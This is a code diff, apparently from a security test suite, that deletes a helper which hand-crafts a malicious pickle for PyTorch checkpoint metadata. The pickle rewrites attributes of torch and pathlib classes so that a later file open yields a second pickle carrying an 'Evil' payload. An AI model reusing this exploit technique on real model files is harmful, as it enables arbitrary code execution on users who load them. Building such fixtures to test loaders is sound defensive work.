@@ -57,51 +57,6 @@ def malicious_table_of_contents(path: Path) -> None:
     _write_table(path, table)
 
 
-def table_that_changes_classes(path: Path) -> None:
-    """A real table, and instructions that name nothing unknown: they set attributes of classes of torch and Python.
-
-    Whoever then opens a file by ``PosixPath.open("rb")``, as torch does, reads another pickle.
-    """
-    dcp = "torch.distributed.checkpoint.metadata"
-    plain = {file: _call("pathlib", "PosixPath", str(file)) for file in [*path.glob("rng_*"), path / "meta.pt"]}
-    stream = _call(dcp, "StorageMeta") + _dict({_opcodes("read"): _LAYOUT, _opcodes("readline"): _LAYOUT}) + b"b"
-    cache = {
-        _opcodes(1): _opcodes(pickle.dumps(Evil(marker_of(path)))),
-        _call(dcp, "MetadataIndex", "rb"): stream,
-        **{key: _opcodes(file.read_bytes()) for file, key in plain.items()},
-    }
-    index = _global(dcp, "MetadataIndex")
-    changes = {
-        _LAYOUT: {"cache": _dict(cache)},
-        index: {"__enter__": _LAYOUT, "__exit__": _global("torch.distributed.checkpoint.planner", "SavePlan")},
-        _global("pathlib", "PosixPath"): {"open": index, "read_bytes": _LAYOUT},
-    }
-    data = b"\x80\x03" + _opcodes(_table(path))
-    for target, attributes in changes.items():
-        state = _dict({_opcodes(name): value for name, value in attributes.items()})
-        data += target + b"N" + state + b"\x86b0"  # BUILD with (None, attributes of anything), POP
-    (path / ".metadata").write_bytes(data + b".")
-
-
-def _opcodes(value: Any) -> bytes:
-    return pickle.dumps(value, 3)[2:-1]
-
-
-def _global(module: str, name: str) -> bytes:
-    return f"c{module}\n{name}\n".encode()
-
-
-def _call(module: str, name: str, *arguments: Any) -> bytes:
-    return _global(module, name) + _opcodes(arguments) + b"R"
-
-
-def _dict(items: dict[bytes, bytes]) -> bytes:
-    return b"}(" + b"".join(key + value for key, value in items.items()) + b"u"
-
-
-_LAYOUT = _global("torch.serialization", "_get_layout")
-
-
 def malicious_data(name: str) -> Damage:
     """What should be a tensor, or another object, of that name leads to another pickle, behind the end of a file."""
 
